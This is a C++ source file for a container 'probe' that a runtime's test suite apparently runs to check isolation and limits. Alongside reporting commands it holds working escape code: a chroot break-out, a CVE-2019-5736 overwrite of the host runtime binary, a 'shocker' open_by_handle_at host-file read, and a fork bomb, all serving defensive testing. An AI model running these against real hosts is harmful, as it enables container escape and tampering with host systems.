// probe - a small static program the tests run inside containers.
//
// It reports what the container sees, one fact per command, in a format easy
// to compare from outside, and it does the nasty things limits must stop.
// Static, so it runs in any root filesystem (copied in as /probe).
//
//   probe pid              our PID as we see it
//   probe pids             the PIDs in /proc, space-separated
//   probe ns               "TYPE INODE" for each /proc/self/ns entry
//   probe hostname         the UTS hostname
//   probe fds              our open file descriptors, space-separated
//   probe cgroup           /proc/self/cgroup
//   probe lo               "up" or "down": the loopback device's state
//   probe memhog MIB       allocate and touch MIB mebibytes, then say "ok"
//   probe forkbomb N       try to have N processes; print how many we got
//   probe spin SECONDS     burn CPU for SECONDS of wall time
//   probe sleep SECONDS    sleep (with a handler for SIGTERM: exit 143)
//   probe chroot-escape F  try the classic chroot break-out and read F
//   probe cgroup-first [S] /proc/self/cgroup, read before anything else in
//                          main(); then sleep S seconds (as `sleep`)
//   probe cwd PATH...      "cwd DIR" (what getcwd() says, or "cwd error
//                          ENOENT"), then, each PATH taken relative (a host
//                          path without its "/"), "reached REL" for the first
//                          of PATH, ../PATH, ../../PATH, ... (up to 64 levels
//                          up) that exists from our working directory, or
//                          "reached nothing" when none of them does
//   probe exe-attack S     CVE-2019-5736, for S seconds or until SIGTERM: hold
//                          /proc/PID/exe (O_PATH) of every process running a
//                          binary from outside our root filesystem, try to open
//                          it for writing, and keep trying to reopen the held
//                          descriptors for writing (/proc/self/fd/N), appending
//                          a marker when that works; then report, one line each:
//                          "targets N", "held N", "exe DEV:INO" per binary held,
//                          "open-exe OUTCOME=N ...", "reopen OUTCOME=N ...",
//                          "last-reopen OUTCOME=N ..." (a round over all held
//                          at the end or on SIGTERM), "write OUTCOME=N ...",
//                          "written N" (OUTCOME: ok or an errno name)
//
// Chapter 09's privileges: each prints "WHAT ok" (and exits 0) or "WHAT
// ERRNO" with the errno's name, e.g. "mount EPERM" (and exits 1).
//   probe ids              "uid U euid E gid G egid EG groups G1,G2,..."
//   probe mount TYPE SRC DIR [DATA]   mount(2) a filesystem
//   probe remount-rw DIR   mount(2) MS_REMOUNT of DIR without MS_RDONLY
//   probe write PATH TEXT  open PATH for writing (no O_TRUNC) and write TEXT
//   probe rewrite PATH     read PATH, open it for writing and write back
//                          exactly what was read (nothing if it held only
//                          a newline): shows a write is possible, changes
//                          nothing; "rewrite ok N" with N bytes written
//   probe read-nonblock PATH   open O_NONBLOCK and read once (a kernel log
//                          record): "read ok N", "read ok 0" for EAGAIN
//   probe adjtimex         the right to set the clock, probed without moving
//                          it: adjtimex() reads the status, then sets
//                          ADJ_STATUS to that same status
//   probe by-handle DIR TYPE HEX   open_by_handle_at(open(DIR), handle) and
//                          print the file's contents ("shocker")
//   probe unshare-user     unshare(CLONE_NEWUSER)
//   probe add-key          add_key("user", ...) in the process keyring
//                          (gone when the probe exits)
//   probe clone3           a child through the raw clone3 system call
//   probe threads N        N threads through pthread_create, joined
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <net/if.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/timex.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <set>
#include <string>
#include <utility>
#include <vector>

namespace {

std::vector<std::string> list_dir(const char* path) {
    std::vector<std::string> names;
    DIR* d = opendir(path);
    if (d == nullptr) {
        return names;
    }
    while (dirent* e = readdir(d)) {
        if (e->d_name[0] != '.') {
            names.emplace_back(e->d_name);
        }
    }
    closedir(d);
    return names;
}

void print_numbers(std::vector<long> v) {
    std::sort(v.begin(), v.end());
    for (size_t i = 0; i < v.size(); ++i) {
        std::printf("%s%ld", i ? " " : "", v[i]);
    }
    std::printf("\n");
}

int cat(const char* path) {
    FILE* f = std::fopen(path, "r");
    if (f == nullptr) {
        std::perror(path);
        return 1;
    }
    char buf[4096];
    size_t n;
    while ((n = std::fread(buf, 1, sizeof buf, f)) > 0) {
        std::fwrite(buf, 1, n, stdout);
    }
    std::fclose(f);
    return 0;
}

double now() {
    timespec ts{};
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) / 1e9;
}

int cmd_pids() {
    std::vector<long> pids;
    for (const std::string& name : list_dir("/proc")) {
        if (name.find_first_not_of("0123456789") == std::string::npos) {
            pids.push_back(std::stol(name));
        }
    }
    print_numbers(pids);
    return 0;
}

int cmd_ns() {
    std::vector<std::string> types = list_dir("/proc/self/ns");
    std::sort(types.begin(), types.end());
    for (const std::string& type : types) {
        struct stat st {};
        if (stat(("/proc/self/ns/" + type).c_str(), &st) == 0) {
            std::printf("%s %lu\n", type.c_str(), static_cast<unsigned long>(st.st_ino));
        }
    }
    return 0;
}

int cmd_fds() {
    // Open the directory first, then leave its own descriptor out.
    DIR* d = opendir("/proc/self/fd");
    if (d == nullptr) {
        std::perror("/proc/self/fd");
        return 1;
    }
    std::vector<long> fds;
    while (dirent* e = readdir(d)) {
        if (e->d_name[0] != '.' && std::atol(e->d_name) != dirfd(d)) {
            fds.push_back(std::atol(e->d_name));
        }
    }
    closedir(d);
    print_numbers(fds);
    return 0;
}

int cmd_lo() {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    ifreq req{};
    std::strncpy(req.ifr_name, "lo", IFNAMSIZ - 1);
    if (s < 0 || ioctl(s, SIOCGIFFLAGS, &req) != 0) {
        std::perror("SIOCGIFFLAGS lo");
        return 1;
    }
    std::printf("%s\n", (req.ifr_flags & IFF_UP) ? "up" : "down");
    return 0;
}

int cmd_memhog(long mib) {
    const long chunk = 1 << 20;
    for (long i = 0; i < mib; ++i) {
        char* p = static_cast<char*>(std::malloc(chunk));
        if (p == nullptr) {
            std::printf("malloc failed after %ld MiB\n", i);
            return 1;
        }
        std::memset(p, 1, chunk);  // touch every page: only touched pages count
    }
    std::printf("ok\n");
    return 0;
}

int cmd_forkbomb(long wanted) {
    std::vector<pid_t> children;
    for (long i = 1; i < wanted; ++i) {
        pid_t pid = fork();
        if (pid < 0) {
            break;  // EAGAIN: the pids limit (or the kernel's) said no
        }
        if (pid == 0) {
            pause();
            _exit(0);
        }
        children.push_back(pid);
    }
    std::printf("%ld\n", static_cast<long>(children.size()) + 1);  // with ourselves
    std::fflush(stdout);
    for (pid_t pid : children) {
        kill(pid, SIGKILL);
    }
    while (wait(nullptr) > 0) {
    }
    return 0;
}

int cmd_spin(double seconds) {
    double end = now() + seconds;
    volatile unsigned long x = 0;
    while (now() < end) {
        for (int i = 0; i < 100000; ++i) {
            x = x + 1;
        }
    }
    return 0;
}

void on_term(int) { _exit(143); }

int cmd_sleep(double seconds) {
    signal(SIGTERM, on_term);  // PID 1 needs a handler to be stoppable
    auto whole = static_cast<time_t>(seconds);
    timespec ts{whole, static_cast<long>((seconds - static_cast<double>(whole)) * 1e9)};
    while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
    }
    return 0;
}

// The classic escape: chroot() into a subdirectory without chdir() into it
// leaves our working directory outside the new root, and ".." from there
// walks up to the real root.
int cmd_chroot_escape(const char* file) {
    mkdir("/.escape", 0700);
    if (chroot("/.escape") != 0) {
        std::perror("chroot(/.escape)");
        return 2;
    }
    for (int i = 0; i < 64; ++i) {
        if (chdir("..") != 0) {
            break;
        }
    }
    if (chroot(".") != 0) {
        std::perror("chroot(.)");
        return 2;
    }
    return cat(file) == 0 ? 0 : 1;
}

// What a working directory reaches: getcwd(), and which of `paths` (each
// relative to "/" of the host) exist from here, looking up to 64 levels up.
int cmd_cwd(int count, char** paths) {
    char buf[PATH_MAX];
    if (getcwd(buf, sizeof buf) != nullptr) {
        std::printf("cwd %s\n", buf);
    } else {
        std::printf("cwd error %s\n", strerrorname_np(errno));
    }
    bool any = false;
    for (int i = 0; i < count; ++i) {
        std::string rel = paths[i];
        rel.erase(0, rel.find_first_not_of('/'));
        std::string up;
        for (int level = 0; level <= 64; ++level, up += "../") {
            struct stat st {};
            if (lstat((up + rel).c_str(), &st) == 0) {
                std::printf("reached %s\n", (up + rel).c_str());
                any = true;
                break;
            }
        }
    }
    if (!any) {
        std::printf("reached nothing\n");
    }
    return 0;
}

volatile sig_atomic_t attack_stop = 0;
void on_attack_term(int) { attack_stop = 1; }

// "ok=1 ETXTBSY=20": how often each outcome came.
std::string outcomes(const std::map<std::string, long>& counts) {
    std::string out;
    for (const auto& [what, n] : counts) {
        out += " " + what + "=" + std::to_string(n);
    }
    return out;
}

const char* errno_name(int err) {
    const char* name = strerrorname_np(err);
    return name != nullptr ? name : "E?";
}

// CVE-2019-5736: a runtime that enters the container runs, until its execve
// (or, through a `#!/proc/self/exe` script, again), from the host's binary.
// Its /proc/PID/exe can be opened here with O_PATH; while it runs, a write
// open fails (ETXTBSY), but once it has exited, reopening the held
// descriptor through /proc/self/fd/N for writing works, unless the binary
// came from a read-only mount.
int cmd_exe_attack(double seconds) {
    signal(SIGTERM, on_attack_term);  // the test stops us early: report then
    struct stat self {};
    struct stat root {};
    if (stat("/proc/self/exe", &self) != 0 || stat("/", &root) != 0) {
        std::perror("stat(/proc/self/exe, /)");
        return 2;
    }
    struct Held {
        int fd;
        bool done;
    };
    std::vector<Held> held;
    std::set<long> seen;  // PIDs looked at, each once
    std::set<std::pair<unsigned long, unsigned long>> files;
    std::map<std::string, long> open_exe, reopen, last_reopen, write_result;
    long written = 0;
    const std::string marker = "\nminidocker-probe-exe-attack-was-here\n";

    // Appends the marker through `fd`, open for writing, and closes it.
    auto append_marker = [&](int fd) {
        off_t at = lseek(fd, 0, SEEK_END);
        if (at >= 0 && pwrite(fd, marker.data(), marker.size(), at) == static_cast<ssize_t>(marker.size())) {
            ++write_result["ok"];
            ++written;
        } else {
            ++write_result[errno_name(errno)];
        }
        close(fd);
    };
    // Reopens for writing the held descriptors not yet written through (with
    // `all`, every one; still writing only through the others).
    auto try_reopen = [&](std::map<std::string, long>& result, bool all) {
        for (Held& h : held) {
            if (h.done && !all) {
                continue;
            }
            int fd = open(("/proc/self/fd/" + std::to_string(h.fd)).c_str(), O_WRONLY | O_CLOEXEC);
            if (fd < 0) {
                ++result[errno_name(errno)];
                continue;
            }
            ++result["ok"];
            if (h.done) {
                close(fd);
                continue;
            }
            h.done = true;
            append_marker(fd);
        }
    };

    double end = now() + seconds;
    double next_reopen = 0;
    while (!attack_stop && now() < end) {
        DIR* d = opendir("/proc");
        if (d == nullptr) {
            std::perror("/proc");
            return 2;
        }
        while (dirent* e = readdir(d)) {
            char* tail = nullptr;
            long pid = std::strtol(e->d_name, &tail, 10);
            if (*tail != '\0' || pid <= 0 || pid == getpid() || seen.count(pid) != 0) {
                continue;
            }
            std::string exe = "/proc/" + std::string(e->d_name) + "/exe";
            struct stat st {};
            if (stat(exe.c_str(), &st) != 0) {
                continue;  // gone, or not yet exec'd into anything we can see
            }
            if ((st.st_dev == self.st_dev && st.st_ino == self.st_ino) || st.st_dev == root.st_dev) {
                continue;  // ourselves, or a program of the image (busybox)
            }
            seen.insert(pid);
            if (held.size() < 256) {
                int fd = open(exe.c_str(), O_PATH | O_CLOEXEC);
                if (fd >= 0) {
                    held.push_back({fd, false});
                    files.insert({static_cast<unsigned long>(st.st_dev), static_cast<unsigned long>(st.st_ino)});
                }
            }
            int fd = open(exe.c_str(), O_WRONLY | O_CLOEXEC);
            if (fd < 0) {
                ++open_exe[errno_name(errno)];
            } else {
                ++open_exe["ok"];
                append_marker(fd);
            }
        }
        closedir(d);
        if (now() >= next_reopen) {
            try_reopen(reopen, false);  // works only once no process runs the binary
            next_reopen = now() + 0.02;
        }
    }
    try_reopen(last_reopen, true);  // a last time, all: by now what we held has surely exited
    std::printf("targets %zu\n", seen.size());
    std::printf("held %zu\n", held.size());
    for (const auto& [dev, ino] : files) {
        std::printf("exe %lu:%lu\n", dev, ino);
    }
    std::printf("open-exe%s\n", outcomes(open_exe).c_str());
    std::printf("reopen%s\n", outcomes(reopen).c_str());
    std::printf("last-reopen%s\n", outcomes(last_reopen).c_str());
    std::printf("write%s\n", outcomes(write_result).c_str());
    std::printf("written %ld\n", written);
    return 0;
}

// Prints /proc/self/cgroup with nothing but system calls: main() calls this
// before it does anything else, so what it prints is the cgroup the runtime
// had us in when our first instruction ran.
int cmd_cgroup_first(const char* sleep_for) {
    static char buf[65536];
    int fd = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
    ssize_t size = 0;
    for (ssize_t n = 1; fd >= 0 && n > 0 && size < static_cast<ssize_t>(sizeof buf);) {
        n = read(fd, buf + size, sizeof buf - static_cast<size_t>(size));
        size += n > 0 ? n : 0;
    }
    if (fd < 0) {
        std::perror("/proc/self/cgroup");
        return 1;
    }
    close(fd);
    for (ssize_t done = 0; done < size;) {
        ssize_t n = write(STDOUT_FILENO, buf + done, static_cast<size_t>(size - done));
        if (n <= 0) {
            return 1;
        }
        done += n;
    }
    return sleep_for != nullptr ? cmd_sleep(std::atof(sleep_for)) : 0;
}

// ---- chapter 09: what a container's root may do to the host ----

// "WHAT ok" (0) or "WHAT ERRNO" (1), from a system call's return value.
int outcome(const char* what, long ret) {
    if (ret < 0) {
        std::printf("%s %s\n", what, strerrorname_np(errno));
        return 1;
    }
    std::printf("%s ok\n", what);
    return 0;
}

int cmd_ids() {
    gid_t groups[256];
    int n = getgroups(256, groups);
    std::printf("uid %d euid %d gid %d egid %d groups ", getuid(), geteuid(), getgid(), getegid());
    for (int i = 0; i < n; ++i) {
        std::printf("%s%d", i ? "," : "", groups[i]);
    }
    std::printf("\n");
    return 0;
}

int cmd_rewrite(const char* path) {
    std::string content;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        return outcome("read", -1);
    }
    char buf[4096];
    for (ssize_t n; (n = read(fd, buf, sizeof buf)) > 0;) {
        content.append(buf, static_cast<size_t>(n));
    }
    close(fd);
    // An empty setting reads back as "\n": write nothing then, so the value
    // cannot change whatever the kernel makes of a lone newline.
    if (content == "\n") {
        content.clear();
    }
    fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        return outcome("rewrite", -1);
    }
    ssize_t n = content.empty() ? 0 : write(fd, content.data(), content.size());
    close(fd);
    if (n < 0) {
        return outcome("rewrite", -1);
    }
    std::printf("rewrite ok %zd\n", n);
    return 0;
}

int cmd_write(const char* path, const char* text) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        return outcome("write", -1);
    }
    ssize_t n = write(fd, text, std::strlen(text));
    close(fd);
    return outcome("write", n);
}

int cmd_read_nonblock(const char* path) {
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) {
        return outcome("read", -1);
    }
    static char buf[65536];  // /dev/kmsg hands out whole records only
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    if (n < 0 && errno == EAGAIN) {
        n = 0;  // opened, nothing logged yet
    }
    if (n < 0) {
        return outcome("read", -1);
    }
    std::printf("read ok %zd\n", n);
    return 0;
}

int cmd_adjtimex() {
    timex tx{};
    if (adjtimex(&tx) < 0) {
        return outcome("adjtimex-read", -1);
    }
    // Setting the status it already has changes nothing, but the kernel
    // asks for CAP_SYS_TIME before it looks at what is set.
    int status = tx.status;
    tx = timex{};
    tx.modes = ADJ_STATUS;
    tx.status = status;
    return outcome("adjtimex", adjtimex(&tx));
}

int cmd_by_handle(const char* dir, const char* type, const char* hex) {
    size_t bytes = std::strlen(hex) / 2;
    std::vector<unsigned char> storage(sizeof(file_handle) + bytes);
    auto* handle = reinterpret_cast<file_handle*>(storage.data());
    handle->handle_bytes = static_cast<unsigned>(bytes);
    handle->handle_type = std::atoi(type);
    for (size_t i = 0; i < bytes; ++i) {
        handle->f_handle[i] = static_cast<unsigned char>(std::stoul(std::string(hex + 2 * i, 2), nullptr, 16));
    }
    int mount_fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mount_fd < 0) {
        return outcome("open", -1);
    }
    int fd = open_by_handle_at(mount_fd, handle, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        return outcome("open_by_handle_at", -1);
    }
    std::printf("open_by_handle_at ok\n");
    char buf[4096];
    for (ssize_t n; (n = read(fd, buf, sizeof buf)) > 0;) {
        std::fwrite(buf, 1, static_cast<size_t>(n), stdout);
    }
    close(fd);
    close(mount_fd);
    return 0;
}

int cmd_clone3() {
    clone_args args{};
    args.exit_signal = SIGCHLD;
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0) {
        _exit(0);
    }
    if (pid > 0) {
        waitpid(static_cast<pid_t>(pid), nullptr, 0);
    }
    return outcome("clone3", pid);
}

void* thread_main(void*) { return nullptr; }

int cmd_threads(long count) {
    std::vector<pthread_t> threads(static_cast<size_t>(count));
    for (pthread_t& t : threads) {
        int err = pthread_create(&t, nullptr, thread_main, nullptr);
        if (err != 0) {
            errno = err;
            return outcome("threads", -1);
        }
    }
    for (pthread_t& t : threads) {
        pthread_join(t, nullptr);
    }
    std::printf("threads ok %ld\n", count);
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    // Before anything else: see cmd_cgroup_first.
    if (argc >= 2 && std::strcmp(argv[1], "cgroup-first") == 0) {
        return cmd_cgroup_first(argc > 2 ? argv[2] : nullptr);
    }
    if (argc < 2) {
        std::fprintf(
            stderr,
            "usage: probe pid|pids|ns|hostname|fds|cgroup|lo|memhog N|forkbomb N|spin S|sleep S|chroot-escape F|"
            "cgroup-first [S]|cwd PATH...|exe-attack S|ids|mount T S D [O]|remount-rw D|write P T|rewrite P|"
            "read-nonblock P|adjtimex|by-handle D T HEX|unshare-user|add-key|clone3|threads N\n");
        return 2;
    }
    std::string cmd = argv[1];
    const char* arg = argc > 2 ? argv[2] : "0";
    if (cmd == "pid") {
        std::printf("%d\n", getpid());
        return 0;
    }
    if (cmd == "pids") {
        return cmd_pids();
    }
    if (cmd == "ns") {
        return cmd_ns();
    }
    if (cmd == "hostname") {
        char name[256] = {};
        gethostname(name, sizeof name - 1);
        std::printf("%s\n", name);
        return 0;
    }
    if (cmd == "fds") {
        return cmd_fds();
    }
    if (cmd == "cgroup") {
        return cat("/proc/self/cgroup");
    }
    if (cmd == "lo") {
        return cmd_lo();
    }
    if (cmd == "memhog") {
        return cmd_memhog(std::atol(arg));
    }
    if (cmd == "forkbomb") {
        return cmd_forkbomb(std::atol(arg));
    }
    if (cmd == "spin") {
        return cmd_spin(std::atof(arg));
    }
    if (cmd == "sleep") {
        return cmd_sleep(std::atof(arg));
    }
    if (cmd == "chroot-escape") {
        return cmd_chroot_escape(arg);
    }
    if (cmd == "cwd") {
        return cmd_cwd(argc - 2, argv + 2);
    }
    if (cmd == "exe-attack") {
        return cmd_exe_attack(std::atof(arg));
    }
    if (cmd == "ids") {
        return cmd_ids();
    }
    if (cmd == "mount" && argc >= 5) {
        return outcome("mount", mount(argv[3], argv[4], argv[2], 0, argc > 5 ? argv[5] : nullptr));
    }
    if (cmd == "remount-rw") {
        return outcome("remount", mount(nullptr, arg, nullptr, MS_REMOUNT, nullptr));
    }
    if (cmd == "write" && argc >= 4) {
        return cmd_write(argv[2], argv[3]);
    }
    if (cmd == "rewrite") {
        return cmd_rewrite(arg);
    }
    if (cmd == "read-nonblock") {
        return cmd_read_nonblock(arg);
    }
    if (cmd == "adjtimex") {
        return cmd_adjtimex();
    }
    if (cmd == "by-handle" && argc >= 5) {
        return cmd_by_handle(argv[2], argv[3], argv[4]);
    }
    if (cmd == "unshare-user") {
        return outcome("unshare", unshare(CLONE_NEWUSER));
    }
    if (cmd == "add-key") {
        // The process keyring dies with the probe: nothing is left behind.
        return outcome("add_key", syscall(SYS_add_key, "user", "minidocker-probe", "x", 1, KEY_SPEC_PROCESS_KEYRING));
    }
    if (cmd == "clone3") {
        return cmd_clone3();
    }
    if (cmd == "threads") {
        return cmd_threads(std::atol(arg));
    }
    std::fprintf(stderr, "probe: unknown command %s\n", cmd.c_str());
    return 2;
}
